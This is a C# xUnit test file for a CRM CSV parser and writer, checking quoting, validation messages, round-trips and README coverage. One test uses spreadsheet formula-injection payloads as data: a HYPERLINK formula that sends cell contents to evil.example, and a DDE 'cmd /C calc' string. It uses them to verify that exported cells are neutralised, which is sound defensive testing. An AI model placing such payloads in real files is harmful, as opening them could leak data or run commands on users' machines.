using MeetingPrep.Core.Crm;
using MeetingPrep.Storage.Crm.Csv;
using Xunit;

namespace MeetingPrep.Storage.Tests.Crm;

/// <summary>The CSV rules, without a database.</summary>
public sealed class CrmCsvTests
{
    private static readonly DateTimeOffset Now = new(2026, 11, 27, 0, 0, 0, TimeSpan.Zero);

    [Fact]
    public void Parser_reads_quotes_doubled_quotes_embedded_commas_and_line_breaks_with_start_lines()
    {
        var problems = new List<CsvProblem>();
        var text = "\uFEFFid,text\r\n1,\"Hello, \"\"world\"\"\"\r\n2,\"two\nlines\"\n3,plain\n\n";

        var rows = CsvParser.Parse("notes.csv", text, problems);

        Assert.Empty(problems);
        Assert.Equal(4, rows.Count);
        Assert.Equal(["id", "text"], rows[0].Fields);
        Assert.Equal("Hello, \"world\"", rows[1].Fields[1]);
        Assert.Equal(("two\nlines", 3), (rows[2].Fields[1], rows[2].Line));
        Assert.Equal(("plain", 5), (rows[3].Fields[1], rows[3].Line));
    }

    [Fact]
    public void Parser_reports_a_stray_quote_and_an_unterminated_field_where_they_are()
    {
        var problems = new List<CsvProblem>();

        CsvParser.Parse("a.csv", "id,name\n1,Fab\"rikam\n2,\"open\n3,x\n", problems);

        Assert.Equal(2, problems.Count);
        Assert.Equal((2, 2), (problems[0].Line, problems[0].Column!.Value));
        Assert.Contains("quote inside an unquoted field", problems[0].Reason, StringComparison.Ordinal);
        Assert.Equal((3, 2), (problems[1].Line, problems[1].Column!.Value));
        Assert.Contains("never closed", problems[1].Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Valid_files_become_a_context()
    {
        var result = CrmCsvReader.Read(ValidFiles(), Now, new HashSet<string>());

        Assert.True(result.Succeeded, string.Join("\n", result.Problems));
        var data = result.Data!;
        var account = Assert.Single(data.Accounts, a => a.Id == "acc-1");
        Assert.Equal(("Fabrikam", "fabrikam.com", "Strategic"), (account.Name, account.Domain, account.Tier));
        Assert.Equal(Now, account.LastModified);
        Assert.Equal(new Uri("https://crm.example.com/a/1"), account.Url);
        Assert.Equal(2, data.Contacts.Count);
        var opportunity = Assert.Single(data.Opportunities);
        Assert.Equal((1234567.5m, "EUR", new DateOnly(2027, 1, 31)), (opportunity.Amount!.Value, opportunity.Currency, opportunity.CloseDate!.Value));
        var note = Assert.Single(data.Notes);
        Assert.Equal("Line one, with a comma\nLine \"two\"", note.Text);
        Assert.Equal(new DateTimeOffset(2026, 11, 20, 8, 30, 0, TimeSpan.Zero), note.Created);
        var crmCase = Assert.Single(data.Cases);
        Assert.Equal((CasePriority.High, true, true), (crmCase.Priority, crmCase.IsOpen, crmCase.IsEscalated));
        var series = Assert.Single(data.Metrics);
        Assert.Equal([new DateOnly(2026, 9, 1), new DateOnly(2026, 10, 1), new DateOnly(2026, 11, 1)], series.Points.Select(p => p.Period));
        Assert.Equal(-3.25m, series.Points[0].Value);
    }

    [Fact]
    public void A_broken_file_set_is_rejected_with_every_problem_located()
    {
        var files = ValidFiles();
        files["accounts.csv"] = "id,name,domain,colour\nacc-1,Fabrikam,fabrikam.com,red\n";
        files["contacts.csv"] = """
            id,account_id,name,email
            con-1,acc-1,Alex Kim,alex.kim@fabrikam.com
            con-1,acc-1,Alex Again,alex2@fabrikam.com
            con-2,acc-9,Sam Lee,sam@northwind.com
            con-3,acc-1,,not-an-email
            """;
        files["opportunities.csv"] = "id,account_id,name,stage,amount,close_date\nopp-1,acc-1,Renewal,Propose,\"1,234.50\",31/01/2027\n";
        files["cases.csv"] = "id,account_id,number,title,status,is_open,opened,priority\ncase-1,acc-1,C-1,Broken,New,yes,2026-11-01T00:00:00Z,Urgent\n";
        files["metrics.csv"] = "series_id,account_id,name,unit,higher_is_better,period,value\nm-1,acc-1,Spend,EUR,true,2026-10,100\nm-1,acc-1,Spend,EUR,true,2026-10-01,200\n";
        files["deals.csv"] = "id\n1\n";

        var result = CrmCsvReader.Read(files, Now, new HashSet<string>());

        Assert.False(result.Succeeded);
        Assert.Null(result.Data);
        var messages = result.Problems.Select(p => p.ToString()).ToList();
        string[] expected =
        [
            "accounts.csv line 1, column 4 (colour): unknown header 'colour'",
            "contacts.csv line 3, column 1 (id): duplicate id 'con-1' (first on line 2)",
            "contacts.csv line 4, column 2 (account_id): unknown account reference 'acc-9'",
            "contacts.csv line 5, column 3 (name): missing required value",
            "contacts.csv line 5, column 4 (email): 'not-an-email' is not an e-mail address",
            "opportunities.csv line 2, column 5 (amount): '1,234.50' is not a number",
            "opportunities.csv line 2, column 6 (close_date): '31/01/2027' is not a date",
            "cases.csv line 2, column 6 (is_open): 'yes' is not true or false",
            "cases.csv line 2, column 8 (priority): 'Urgent' is not a priority",
            "metrics.csv line 3, column 6 (period): series 'm-1' already has a point for 2026-10-01 (line 2)",
            "deals.csv line 1: unknown file",
        ];
        foreach (var e in expected)
        {
            Assert.Contains(messages, m => m.StartsWith(e, StringComparison.Ordinal));
        }

        // Nothing else: every problem is one of the above, except contacts that point at the rejected accounts file.
        Assert.All(messages, m => Assert.True(expected.Any(e => m.StartsWith(e, StringComparison.Ordinal)) || m.Contains("unknown account reference 'acc-1'", StringComparison.Ordinal), m));
    }

    [Fact]
    public void A_missing_required_column_is_named()
    {
        var result = CrmCsvReader.Read(new Dictionary<string, string> { ["accounts.csv"] = "id,domain\na,b.com\n" }, Now, new HashSet<string>());

        var problem = Assert.Single(result.Problems);
        Assert.Equal(("accounts.csv", 1, "name"), (problem.File, problem.Line, problem.ColumnName));
        Assert.Contains("required column 'name' is missing", problem.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void A_row_with_the_wrong_number_of_fields_is_reported()
    {
        var result = CrmCsvReader.Read(new Dictionary<string, string> { ["accounts.csv"] = "id,name\na,Fabrikam,extra\n" }, Now, new HashSet<string>());

        var problem = Assert.Single(result.Problems);
        Assert.Equal(2, problem.Line);
        Assert.Contains("has 3 fields but the header has 2", problem.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void References_to_stored_accounts_are_accepted_when_merging()
    {
        var files = new Dictionary<string, string> { ["contacts.csv"] = "id,account_id,name,email\nc,acc-stored,Ann,ann@x.com\n" };

        Assert.False(CrmCsvReader.Read(files, Now, new HashSet<string>()).Succeeded);
        Assert.True(CrmCsvReader.Read(files, Now, new HashSet<string> { "acc-stored" }).Succeeded);
    }

    [Fact]
    public void Written_files_read_back_to_the_same_data()
    {
        var original = CrmCsvReader.Read(ValidFiles(), Now, new HashSet<string>()).Data!;

        var again = CrmCsvReader.Read(CrmCsvWriter.Write(original), Now.AddDays(1), new HashSet<string>());

        Assert.True(again.Succeeded, string.Join("\n", again.Problems));
        CrmAssert.Same(original, again.Data!);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A2)")]
    [InlineData("'=already quoted")]
    [InlineData("''+twice")]
    public void Formula_cells_are_written_as_text_and_read_back_unchanged(string dangerous)
    {
        var original = CrmCsvReader.Read(ValidFiles(), Now, new HashSet<string>()).Data!;
        var account = original.Accounts[0] with { Name = dangerous, Tier = dangerous, Industry = "\t=1+1" };
        var note = original.Notes[0] with { Title = dangerous, Text = dangerous + "\nsecond line" };
        var data = original with { Accounts = [account, .. original.Accounts.Skip(1)], Notes = [note] };

        var files = CrmCsvWriter.Write(data);

        // No cell of any file starts with a character a spreadsheet would run.
        foreach (var (name, text) in files)
        {
            var rows = CsvParser.Parse(name, text, []);
            Assert.All(rows.SelectMany(r => r.Fields), cell => Assert.False(
                cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r' || (cell.StartsWith('-') && !decimal.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _)),
                $"{name}: '{cell}'"));
        }

        var again = CrmCsvReader.Read(files, Now.AddDays(1), new HashSet<string>());
        Assert.True(again.Succeeded, string.Join("\n", again.Problems));
        var back = again.Data!;
        Assert.Equal((dangerous, dangerous), (back.Accounts.Single(a => a.Id == account.Id).Name, back.Accounts.Single(a => a.Id == account.Id).Tier));
        Assert.Equal((dangerous, dangerous + "\nsecond line"), (back.Notes[0].Title, back.Notes[0].Text));
        Assert.Equal(-3.25m, back.Metrics.Single().Points.Single(p => p.Period == new DateOnly(2026, 9, 1)).Value);
    }

    internal static Dictionary<string, string> ValidFiles() => new(StringComparer.OrdinalIgnoreCase)
    {
        ["accounts.csv"] = """
            id,name,domain,tier,industry,owner_name,owner_email,url,last_modified
            acc-1,Fabrikam,Fabrikam.com,Strategic,Manufacturing,Dana Owner,dana@contoso.com,https://crm.example.com/a/1,
            acc-2,Northwind,northwind.com,Gold,Retail,,,,2026-11-01T12:00:00+01:00
            """,
        ["contacts.csv"] = """
            ID,Account_Id,Name,Email,Job_Title,Role
            con-1,acc-1,Alex Kim,Alex.Kim@fabrikam.com,CTO,Decision maker
            con-2,acc-2,Priya N,priya@northwind.com,,
            """,
        ["opportunities.csv"] = """
            id,account_id,name,stage,amount,currency,close_date,is_closed,last_activity
            opp-1,acc-1,"Renewal, 2027",Propose,1234567.50,eur,2027-01-31,false,2026-11-25T10:00:00Z
            """,
        ["notes.csv"] = "id,account_id,title,text,author,created\r\nnote-1,acc-1,QBR,\"Line one, with a comma\nLine \"\"two\"\"\",Dana,2026-11-20T08:30:00Z\r\n",
        ["cases.csv"] = """
            id,account_id,number,title,status,priority,is_open,is_escalated,opened,escalated_at,opened_by_email
            case-1,acc-2,CAS-1,SSO loop,In progress,high,true,true,2026-11-20T07:00:00Z,2026-11-21T07:00:00Z,priya@northwind.com
            """,
        ["metrics.csv"] = """
            series_id,account_id,name,unit,higher_is_better,period,value
            m-1,acc-1,Monthly spend,EUR,true,2026-11,120.5
            m-1,acc-1,Monthly spend,EUR,true,2026-09-01,-3.25
            m-1,acc-1,Monthly spend,EUR,true,2026-10,100
            """,
    };
}

internal static class CrmAssert
{
    /// <summary>Same records, compared kind by kind (metric points by value, since lists compare by reference).</summary>
    public static void Same(CrmContext expected, CrmContext actual)
    {
        Assert.Equal(expected.Accounts.OrderBy(a => a.Id), actual.Accounts.OrderBy(a => a.Id));
        Assert.Equal(expected.Contacts.OrderBy(a => a.Id), actual.Contacts.OrderBy(a => a.Id));
        Assert.Equal(expected.Opportunities.OrderBy(a => a.Id), actual.Opportunities.OrderBy(a => a.Id));
        Assert.Equal(expected.Notes.OrderBy(a => a.Id), actual.Notes.OrderBy(a => a.Id));
        Assert.Equal(expected.Cases.OrderBy(a => a.Id), actual.Cases.OrderBy(a => a.Id));
        Assert.Equal(expected.Metrics.Count, actual.Metrics.Count);
        foreach (var (e, a) in expected.Metrics.OrderBy(m => m.Id).Zip(actual.Metrics.OrderBy(m => m.Id)))
        {
            Assert.Equal(e with { Points = [] }, a with { Points = [] });
            Assert.Equal(e.Points.OrderBy(p => p.Period), a.Points);
        }
    }
}

public sealed class CrmCsvDocsTests
{
    [Fact]
    public void Readme_names_every_csv_file_and_column()
    {
        var docs = File.ReadAllText(Path.Combine(MeetingPrep.Testing.RepoPaths.Root, "README.md"));

        foreach (var (file, columns) in CrmCsvFormat.Files)
        {
            Assert.Contains($"`{file}`", docs, StringComparison.Ordinal);
            foreach (var column in columns)
            {
                Assert.Contains($"`{column.Name}`", docs, StringComparison.Ordinal);
            }
        }
    }
}
